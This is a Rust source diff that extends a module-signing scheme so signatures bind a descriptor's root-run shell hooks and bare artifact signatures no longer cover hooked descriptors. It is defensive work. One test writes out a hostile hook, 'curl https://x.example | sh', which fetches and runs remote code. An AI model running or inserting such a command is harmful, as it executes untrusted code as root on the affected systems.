@@ -12,28 +12,85 @@
 //! ```
 //!
 //! each line ending in `\n`, signed as RSA over its SHA-256 like an artifact
-//! (`openssl dgst -sha256 -sign key.pem statement.txt`). Bare artifact
+//! (`openssl dgst -sha256 -sign key.pem statement.txt`).
+//!
+//! A descriptor's hooks are shell commands every agent runs as root, so they
+//! must be vouched for as much as the bytes: a descriptor with hooks is
+//! signed with the second form, which adds the SHA-256 of the hooks'
+//! canonical JSON ([`hooks_json`]):
+//!
+//! ```text
+//! hotswap-module-signature-v2
+//! name=<module name>
+//! version=<semantic version>
+//! sha256=<64 lower-case hex digits of the artifact>
+//! hooks=<64 lower-case hex digits of the hooks' canonical JSON>
+//! ```
+//!
+//! The first form is valid only for a descriptor without hooks. Bare artifact
 //! signatures pass only with `security.accept_artifact_signatures` (on in the
-//! development and test profiles, off by default).
+//! development and test profiles, off by default), and never for a
+//! descriptor with hooks: they bind neither name, version nor hooks.
+
+use hotswap_actors::domain::ModuleHooks;
 
 use crate::crypto::sha256;
 
 /// The first line: names the format, so that a statement cannot be read as
 /// anything else.
 pub const STATEMENT_HEADER: &str = "hotswap-module-signature-v1";
+/// The first line of a statement that binds hooks too.
+pub const STATEMENT_HEADER_V2: &str = "hotswap-module-signature-v2";
 
-/// The statement a signature of `name` `version` with bytes `sha256_hex` signs.
-pub fn statement(name: &str, version: &str, sha256_hex: &str) -> String {
-    format!("{STATEMENT_HEADER}\nname={name}\nversion={version}\nsha256={sha256_hex}\n")
+/// The hooks' canonical JSON: an object of the hooks that are set, keys in
+/// alphabetical order (`activate`, `deactivate`, `health`, `prepareStandby`),
+/// no white space, strings escaped as JSON requires and nothing more (RFC 8785
+/// writes the same). For commands of printable characters,
+/// `jq -cjS '.hooks | with_entries(select(.value != null))' descriptor.json`
+/// writes the same bytes.
+pub fn hooks_json(hooks: &ModuleHooks) -> String {
+    let set = [
+        ("activate", &hooks.activate),
+        ("deactivate", &hooks.deactivate),
+        ("health", &hooks.health),
+        ("prepareStandby", &hooks.prepare_standby),
+    ];
+    let fields: Vec<String> = set
+        .iter()
+        .filter_map(|(key, command)| {
+            let command = command.as_ref()?;
+            // A string always serialises; the fallback is never used.
+            Some(format!("\"{key}\":{}", serde_json::to_string(command).unwrap_or_default()))
+        })
+        .collect();
+    format!("{{{}}}", fields.join(","))
+}
+
+/// The statement a signature of `name` `version` with bytes `sha256_hex`
+/// and `hooks` signs: the first form when there are no hooks, else the
+/// second.
+pub fn statement(name: &str, version: &str, sha256_hex: &str, hooks: &ModuleHooks) -> String {
+    if hooks.is_empty() {
+        return format!("{STATEMENT_HEADER}\nname={name}\nversion={version}\nsha256={sha256_hex}\n");
+    }
+    let hooks_hex = crate::crypto::sha256_hex(hooks_json(hooks).as_bytes());
+    format!("{STATEMENT_HEADER_V2}\nname={name}\nversion={version}\nsha256={sha256_hex}\nhooks={hooks_hex}\n")
 }
 
 /// The digests a signature may cover, in order: the statement's, then (when
-/// `accept_bare` says so) the artifact's own. Takes the artifact's digest,
-/// not its bytes: the caller has hashed them once already.
-pub fn signed_digests(name: &str, version: &str, artifact_digest: [u8; 32], accept_bare: bool) -> Vec<[u8; 32]> {
+/// `accept_bare` says so and there are no hooks) the artifact's own. Takes
+/// the artifact's digest, not its bytes: the caller has hashed them once
+/// already.
+pub fn signed_digests(
+    name: &str,
+    version: &str,
+    artifact_digest: [u8; 32],
+    hooks: &ModuleHooks,
+    accept_bare: bool,
+) -> Vec<[u8; 32]> {
     let hex = crate::crypto::hex(&artifact_digest);
-    let mut digests = vec![sha256(statement(name, version, &hex).as_bytes())];
-    if accept_bare {
+    let mut digests = vec![sha256(statement(name, version, &hex, hooks).as_bytes())];
+    if accept_bare && hooks.is_empty() {
         digests.push(artifact_digest);
     }
     digests
@@ -56,17 +113,42 @@ mod tests {
 
     #[test]
     fn the_statement_names_module_version_and_digest() {
-        let s = statement("kmod-net", "1.2.3", &"a".repeat(64));
+        let none = ModuleHooks::default();
+        let s = statement("kmod-net", "1.2.3", &"a".repeat(64), &none);
         assert_eq!(
             s,
             format!("hotswap-module-signature-v1\nname=kmod-net\nversion=1.2.3\nsha256={}\n", "a".repeat(64))
         );
         // Another version, another statement, another digest to sign.
-        let one = signed_digests("kmod-net", "1.0.0", sha256(b"bytes"), false);
-        let two = signed_digests("kmod-net", "2.0.0", sha256(b"bytes"), false);
+        let one = signed_digests("kmod-net", "1.0.0", sha256(b"bytes"), &none, false);
+        let two = signed_digests("kmod-net", "2.0.0", sha256(b"bytes"), &none, false);
         assert_eq!(one.len(), 1);
         assert_ne!(one, two);
-        assert_eq!(signed_digests("kmod-net", "1.0.0", sha256(b"bytes"), true)[1], sha256(b"bytes"));
+        assert_eq!(signed_digests("kmod-net", "1.0.0", sha256(b"bytes"), &none, true)[1], sha256(b"bytes"));
+    }
+
+    #[test]
+    fn hooks_are_bound_by_the_second_form_and_bare_signatures_never_cover_them() {
+        let hooks = ModuleHooks {
+            activate: Some("insmod \"$HOTSWAP_ARTIFACT\"".into()),
+            prepare_standby: Some("true".into()),
+            ..ModuleHooks::default()
+        };
+        assert_eq!(hooks_json(&hooks), r#"{"activate":"insmod \"$HOTSWAP_ARTIFACT\"","prepareStandby":"true"}"#);
+        let digest = "b".repeat(64);
+        let text = statement("kmod-net", "1.2.3", &digest, &hooks);
+        let hooks_hex = crate::crypto::sha256_hex(hooks_json(&hooks).as_bytes());
+        assert_eq!(
+            text,
+            format!("hotswap-module-signature-v2\nname=kmod-net\nversion=1.2.3\nsha256={digest}\nhooks={hooks_hex}\n")
+        );
+        // Other hooks, another statement; the v1 statement does not pass for hooks.
+        let evil = ModuleHooks { activate: Some("curl https://x.example | sh".into()), ..hooks.clone() };
+        assert_ne!(statement("kmod-net", "1.2.3", &digest, &evil), text);
+        let bytes = sha256(b"bytes");
+        let with_hooks = signed_digests("kmod-net", "1.2.3", bytes, &hooks, true);
+        assert_eq!(with_hooks.len(), 1, "no bare signature for a descriptor with hooks");
+        assert!(!with_hooks.contains(&signed_digests("kmod-net", "1.2.3", bytes, &ModuleHooks::default(), false)[0]));
     }
 
     /// Reads a statement back from its end: the digest line has a fixed
@@ -106,7 +188,7 @@ mod tests {
             let (a, b) = (&pair[0], &pair[1]);
             let digest = crate::crypto::hex(&sha256(a.as_bytes()));
             // Raw text: never a panic; it reads back as itself when no field has a line break.
-            let raw = statement(a, b, &digest);
+            let raw = statement(a, b, &digest, &ModuleHooks::default());
             if !a.contains('\n') && !b.contains('\n') {
                 assert_eq!(read_back(&raw), Some((a.clone(), b.clone(), digest.clone())), "{a:?} {b:?}");
             }
@@ -118,14 +200,15 @@ mod tests {
             if !crate::registry::upload::MODULE_NAME.is_match(&name) || semver::Version::parse(&version).is_err() {
                 continue;
             }
-            let text = statement(&name, &version, &digest);
+            let text = statement(&name, &version, &digest, &ModuleHooks::default());
             let fields = (name.clone(), version.clone(), digest.clone());
             assert_eq!(read_back(&text).as_ref(), Some(&fields));
             if let Some(earlier) = seen.insert(text, fields.clone()) {
                 assert_eq!(earlier, fields, "two triples share one statement");
             }
-            let one = signed_digests(&name, &version, sha256(a.as_bytes()), false);
-            assert_ne!(one, signed_digests(&name, &format!("{version}.1"), sha256(a.as_bytes()), false));
+            let none = ModuleHooks::default();
+            let one = signed_digests(&name, &version, sha256(a.as_bytes()), &none, false);
+            assert_ne!(one, signed_digests(&name, &format!("{version}.1"), sha256(a.as_bytes()), &none, false));
         }
         assert!(seen.len() > 1_000, "too few random fields passed the checks: {}", seen.len());
     }
